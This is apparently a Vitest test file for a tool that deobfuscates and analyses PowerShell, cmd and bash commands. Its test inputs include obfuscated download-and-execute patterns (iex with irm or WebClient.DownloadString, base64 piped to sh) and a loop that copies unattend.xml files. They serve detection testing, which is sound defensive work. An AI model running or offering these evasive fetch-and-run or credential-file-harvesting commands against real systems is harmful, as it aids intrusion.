import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import { sanitiseUnicode } from './unicode';
import { detectShell } from './shell-detect';
import { decodeBase64Text } from './decode';
import { formatString } from './fold';
import { optionClusterHas } from './names';

const names = (text: string, shell: Parameters<typeof analyse>[1]) => analyse(text, shell, 'windows').commands.map((c) => c.name);

describe('unicode hygiene', () => {
  it('normalises full-width letters and strips invisible characters, mapping back to the original', () => {
    const text = 'ｉｅｘ a\u200bb \u202ec';
    const s = sanitiseUnicode(text);
    expect(s.text).toBe('iex ab c');
    expect(s.notes.map((n) => n.kind)).toEqual(['unicode_fullwidth', 'unicode_zero_width', 'unicode_bidi']);
    expect(s.starts?.[4]).toBe(4); // 'a'
    expect(s.starts?.[5]).toBe(6); // 'b' after the zero-width space
  });
  it('leaves ASCII untouched without a map', () => {
    expect(sanitiseUnicode('Get-Service').starts).toBeNull();
  });
  it('maps word spans back to the original text', () => {
    const text = 'ｉｅｘ (irm http://x)';
    const doc = analyse(text, 'powershell', 'windows');
    const iex = doc.commands.find((c) => c.name === 'invoke-expression');
    expect(iex?.words[0]?.span).toEqual({ start: 0, end: 3 });
  });
});

describe('shell detection', () => {
  it('recognises each shell', () => {
    expect(detectShell('Get-ChildItem $env:TEMP | Where-Object { $_.Length -gt 1 }', 'windows')).toBe('powershell');
    expect(detectShell('@echo off\nset X=1\nif errorlevel 1 goto end', 'windows')).toBe('cmd');
    expect(detectShell('sudo apt-get update && ls -la /tmp/ | grep x', 'linux')).toBe('bash');
    expect(detectShell('ls', 'macos')).toBe('bash');
  });
});

describe('PowerShell lexer', () => {
  it('resolves aliases, backticks, split quotes and computed names', () => {
    expect(names('iex x', 'powershell')).toContain('invoke-expression');
    expect(names('I`E`X x', 'powershell')).toContain('invoke-expression');
    expect(names("i''ex x", 'powershell')).toContain('invoke-expression');
    expect(names('i""ex x', 'powershell')).toContain('invoke-expression');
    expect(names("&('i'+'ex') x", 'powershell')).toContain('invoke-expression');
    expect(names("& (\"{1}{0}\" -f 'ex','i') x", 'powershell')).toContain('invoke-expression');
    expect(names('.(gcm i*x) x', 'powershell')).toContain('invoke-expression');
    expect(names("&([char[]](105,101,120) -join '') x", 'powershell')).toContain('invoke-expression');
    expect(names('&([char]105+[char]101+[char]120) x', 'powershell')).toContain('invoke-expression');
    expect(names("$a = 'ie'; $b = $a + 'x'; & $b x", 'powershell')).toContain('invoke-expression');
    expect(names('sal z iex; z x', 'powershell')).toContain('invoke-expression');
    expect(names('iex(irm x)', 'powershell')).toEqual(['invoke-restmethod', 'invoke-expression']);
  });

  it('keeps method calls and nesting', () => {
    const doc = analyse("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", 'powershell', 'windows');
    const iex = doc.commands.find((c) => c.name === 'invoke-expression');
    expect(iex?.words[1]?.lower).toContain('downloadstring(http://x/a)');
    const inner = doc.commands.find((c) => c.name === 'new-object');
    expect(inner?.parent).toBe(doc.commands.indexOf(iex!));
    expect(doc.search('downloadstring').length).toBe(1);
  });

  it('finds concatenated words with search()', () => {
    const doc = analyse("$w.('Down'+'loadString')('u')", 'powershell', 'windows');
    expect(doc.search('downloadstring').length).toBeGreaterThan(0);
  });

  it('decodes -EncodedCommand recursively into layers', () => {
    const enc = (s: string) =>
      btoa(
        Array.from(s)
          .map((c) => c + '\u0000')
          .join(''),
      );
    const doc = analyse(`powershell -e ${enc(`powershell -enc ${enc('Get-Date')}`)}`, 'cmd', 'windows');
    expect(doc.layers.filter((l) => l.origin === 'encoded_command').length).toBe(2);
    expect(doc.commands.some((c) => c.name === 'get-date' && c.depth === 2)).toBe(true);
  });

  it('ignores comments', () => {
    expect(names('# iex (irm x)\n<# iex #> Get-Date', 'powershell')).toEqual(['get-date']);
  });

  it('ends a param(…) block where it closes, so a command on the same line stands on its own', () => {
    expect(names('function f { param($u) iex (irm $u) }', 'powershell')).toEqual([
      '',
      'param',
      'invoke-restmethod',
      'invoke-expression',
      'function',
    ]);
    expect(names('{ [CmdletBinding()] param([string]$u) Get-Item $u }', 'powershell')).toContain('get-item');
    // A parameter called param, or param as an argument, is not a param block.
    expect(names('Get-Item -Path param (1)', 'powershell')).toEqual(['', 'get-item']);
  });
});

describe('cmd lexer', () => {
  it('resolves carets, quotes, variables and substrings', () => {
    expect(names('p^o^w^e^r^s^h^e^l^l -c dir', 'cmd')).toContain('powershell');
    expect(names('set a=ower\np%a%shell -c dir', 'cmd')).toContain('powershell');
    expect(names('%COMSPEC:~-7,3% /c dir', 'cmd')).toContain('cmd');
    expect(names('set x=abcmdz\n%x:~2,3% /c dir', 'cmd')).toContain('cmd');
    expect(names('cmd /c "echo a & whoami"', 'cmd')).toEqual(['cmd', 'echo', 'whoami']);
    expect(names('if exist a.txt (type a.txt) else (echo none)', 'cmd')).toEqual(['type', 'echo']);
    expect(names('rem whoami\n:: whoami\necho hi', 'cmd')).toEqual(['echo']);
  });
  it('reads an undefined %name% as written text, whose blanks and carets still count', () => {
    // At the prompt `%f in (…) do cop^y %` is an undefined variable: cmd keeps it and then reads it as usual.
    expect(names('for /r C:\\ %f in (unattend.xml) do cop^y %f C:\\Users\\Public', 'cmd')).toEqual(['copy']);
    expect(names('%MYTOOL%\\a.exe /x', 'cmd')).toEqual(['a']);
  });
});

describe('POSIX lexer', () => {
  it('reads a [[ test over several lines as one test, and [[ as an argument as a word', () => {
    const test =
      'if [[\n  $( echo "$c" | /usr/bin/awk -F \'Enabled: \' \'{print $2}\' ) == "Yes"\n  || "$r" == "true"\n]]; then\n  networksetup -setautoproxystate Wi-Fi off\nfi';
    expect(names(test, 'bash')).toEqual(['echo', 'awk', '[[', 'networksetup']);
    expect(names('echo [[\ncurl -s https://x.example/a', 'bash')).toEqual(['echo', 'curl']);
  });

  it('reads a command word that expands to nothing (an empty variable or array) without failing', () => {
    // `$v` with v empty, `"${a[@]}"` of an empty array: no word at all, as the shell sees it.
    expect(names('v=""\n$v\n$v x', 'bash')).toContain('x');
    expect(() => analyse('a=(\n)\nfor v in "${a[@]}"; do\n  $v\ndone', 'bash', 'macos')).not.toThrow();
  });

  it('resolves quoting tricks, variables and substitutions', () => {
    expect(names("c'u'rl x", 'bash')).toEqual(['curl']);
    expect(names('c\\url x', 'bash')).toEqual(['curl']);
    expect(names('X=cu; Y=rl; $X$Y x', 'bash')).toEqual(['curl']);
    expect(names('A=abcurl; ${A:2:4} x', 'bash')).toEqual(['curl']);
    expect(names("$'\\x63\\x75\\x72\\x6c' x", 'bash')).toEqual(['curl']);
    expect(names('$(echo curl) x', 'bash')).toEqual(['echo', 'curl']);
    expect(names('cat${IFS}/etc/hostname', 'bash')).toEqual(['cat']);
    expect(names('sudo -u root env A=1 nohup curl x', 'bash')).toEqual(['curl']);
    expect(names('command curl x | \\command sh', 'bash')).toEqual(['curl', 'sh']);
    expect(names('command -v curl', 'bash')).toEqual(['command']);
    expect(names('bash -c "id; whoami"', 'bash')).toEqual(['bash', 'id', 'whoami']);
    expect(names('echo aWQ= | base64 -d | sh', 'bash')).toEqual(['echo', 'base64', 'sh', 'id']);
    expect(names('sh <<EOF\nid\nEOF\nuptime', 'bash')).toEqual(['sh', 'uptime', 'id']);
  });

  it('records assignments and pipelines', () => {
    const doc = analyse('U=http://x/a; X=$(curl $U | head -1)', 'bash', 'linux');
    expect(doc.assignments?.[0]).toMatchObject({ name: 'U', value: 'http://x/a' });
    const curl = doc.commands.find((c) => c.name === 'curl');
    expect(curl?.words[1]?.value).toBe('http://x/a');
    expect(curl?.assignTo).toBe('X');
    expect(doc.pipelines[curl!.pipeline]?.length).toBe(2);
  });
});

describe('decoding helpers', () => {
  it('decodes base64 as UTF-16LE or UTF-8 text', () => {
    expect(decodeBase64Text('ZABpAHIA')?.text).toBe('dir');
    expect(decodeBase64Text('aGVsbG8=')?.text).toBe('hello');
    expect(decodeBase64Text('////')).toBeNull();
  });
  it('formats .NET composite strings', () => {
    expect(formatString('{1}{0}{{x}}', ['a', 'b'])).toBe('ba{x}');
    expect(formatString('{3}', ['a'])).toBeNull();
  });
});

describe('bounded work', () => {
  it('handles pathological nesting without deep recursion', () => {
    for (const [text, shell] of [
      ['('.repeat(100_000), 'powershell'],
      ['$('.repeat(50_000), 'bash'],
      ['{'.repeat(100_000), 'powershell'],
      ['cmd /c '.repeat(5_000), 'cmd'],
    ] as const) {
      const doc = analyse(text, shell, 'windows');
      expect(doc.layers.length).toBeGreaterThan(0);
    }
  });
});

describe('commands run through sudo, doas or pkexec are marked elevated', () => {
  it.each([
    ['sudo vim /etc/hosts', true],
    ['sudo -u root -E find / -name x', true],
    ['doas tar -xf a.tar', true],
    ['pkexec --user root /usr/bin/rustdesk --service', true],
    ['nohup find / -name x', false],
    ['vim /etc/hosts', false],
  ])('%s → %s', (text, elevated) => {
    const d = analyse(text, 'bash', 'linux');
    expect(d.commands[0]?.elevated === true).toBe(elevated);
    expect(d.commands[0]?.name).not.toMatch(/^(sudo|doas|pkexec|nohup)$/);
  });
});

describe('optionClusterHas: bundled short options without a backtracking pattern', () => {
  it.each([
    ['-xzvf', 'z', false, true],
    ['-sSLo', 'o', false, true],
    ['-sSLO', 'o', false, false],
    ['-sSLO', 'o', true, true],
    ['--output', 'o', false, false],
    ['-o1', 'o', false, false],
    ['-', 'o', false, false],
    ['-' + 'c'.repeat(100_000) + '!', 'c', true, false],
  ] as const)('%s has %s (ignore case %s) → %s', (word, letter, ignoreCase, expected) => {
    expect(optionClusterHas(word, letter, ignoreCase)).toBe(expected);
  });
});
